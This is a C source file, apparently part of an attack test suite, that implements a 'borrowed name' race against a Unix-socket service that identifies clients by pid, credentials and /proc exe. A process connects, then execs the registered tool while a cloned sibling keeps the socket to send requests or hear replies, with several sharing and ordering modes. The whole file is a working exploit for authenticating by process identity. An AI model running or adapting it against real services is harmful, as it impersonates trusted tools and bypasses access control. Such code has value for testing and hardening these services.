/* Borrowed name: P connects, sends, and becomes the registered tool by execve. Pid, pidfd, start time and the
 * credentials on the socket survive, only /proc/P/exe changes. A sibling of P keeps the socket and hears the reply.
 *
 * exec_race SOCKET TOOL HOW ORDER RUNS REQUEST
 *   HOW    plain | cloexec (P's copy closes by itself) | vm | vm-cloexec | files | files-cloexec: what the sibling
 *          shares with P (address space, descriptor table), which decides what survives P's exec
 *   ORDER  send-first: P asks, then becomes the tool.  exec-first: the sibling asks when P is the tool already
 * Prints every reply.
 */
#include "attack.h"
#include <time.h>

static const char *tool, *request;
static int sock, out, send_first;
static pid_t racer;

static int sibling(void *unused)
{
	char link[64], exe[4096];

	(void)unused;
	if (!send_first) {
		snprintf(link, sizeof link, "/proc/%d/exe", racer);
		for (int i = 0; i < 20000; i++) {
			ssize_t n = readlink(link, exe, sizeof exe - 1);
			if (n > 0 && (exe[n] = 0, !strcmp(exe, tool)))
				break;
			usleep(50);
		}
		tell(sock, request);
	}
	hear(sock, out);
	_exit(0);
}

static void race(const char *path, const char *how, int hold, int jitter)
{
	size_t stack = 1 << 18;
	int flags = SIGCHLD, close_it = strstr(how, "cloexec") != NULL;
	char *base = mmap(NULL, stack, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *args[] = {(char *)tool, NULL};

	if (!strncmp(how, "vm", 2))
		flags |= CLONE_VM;
	if (!strncmp(how, "files", 5))
		flags |= CLONE_FILES;
	racer = getpid();
	sock = socket(AF_UNIX, SOCK_STREAM | (close_it ? SOCK_CLOEXEC : 0), 0);
	dial_on(sock, path);
	if (clone(sibling, base + stack, flags, NULL) < 0)
		die("clone");
	if (send_first) {
		tell(sock, request);
		if (jitter)
			usleep((useconds_t)jitter);
	}
	dup2(hold, 0);
	execv(tool, args);
	die("exec");
}

int main(int argc, char **argv)
{
	int hold[2], result[2];

	if (argc != 7)
		return 2;
	tool = argv[2];
	request = argv[6];
	send_first = !strcmp(argv[4], "send-first");
	srand((unsigned)time(NULL));
	prctl(PR_SET_CHILD_SUBREAPER, 1);
	/* keeps the tool alive: it waits on stdin */
	if (pipe2(hold, O_CLOEXEC) != 0)
		die("pipe");
	for (int i = atoi(argv[5]); i > 0; i--) {
		char bytes[4096];
		ssize_t n;
		int jitter = i % 3 ? rand() % 600 : 0;

		if (pipe2(result, O_CLOEXEC) != 0)
			die("pipe");
		pid_t p = fork();
		if (p == 0) {
			close(result[0]);
			out = result[1];
			race(argv[1], argv[3], hold[0], jitter);
		}
		close(result[1]);
		while ((n = read(result[0], bytes, sizeof bytes)) > 0)
			(void)!write(1, bytes, (size_t)n);
		close(result[0]);
		kill(p, SIGKILL);
		while (waitpid(-1, NULL, 0) > 0)
			;
	}
	return 0;
}
